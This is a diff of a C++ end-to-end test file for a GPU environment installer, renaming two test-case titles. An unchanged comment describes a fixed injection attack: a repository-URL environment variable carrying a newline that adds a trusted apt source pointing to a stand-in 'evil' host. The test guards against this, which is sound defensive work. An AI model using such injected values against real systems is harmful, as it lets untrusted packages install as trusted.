@@ -232,7 +232,7 @@ TEST_CASE("install --dry-run --root plans for a captured node as apply would on 
   }
 }
 
-TEST_CASE("install: --arch sets os.arch; a profile's os.arch must agree with the node planned for", "[install][e2e]") {
+TEST_CASE("install: --arch sets os.arch, a profile's os.arch must agree with the node planned for", "[install][e2e]") {
   const fs::path dir = fs::temp_directory_path() / ("gpuenv-install-arch-" + std::to_string(::getpid()));
   fs::create_directories(dir);
   const auto profile_for = [&dir](const std::string& arch) {
@@ -265,7 +265,7 @@ TEST_CASE("install: --arch sets os.arch; a profile's os.arch must agree with the
   fs::remove_all(dir);
 }
 
-TEST_CASE("install: one check for every repository URL source; a newline cannot add a trusted source (issue 30 #5)",
+TEST_CASE("install: one check for every repository URL source, a newline cannot add a trusted source (issue 30 #5)",
           "[install][e2e]") {
   // The attack: GPUENV_CUDA_REPO_URL="file:///srv/x /\ndeb [trusted=yes] http://evil/ ./" made the apt source
   // file carry a second, trusted line. Every source of a URL now goes through checked_repository_url.
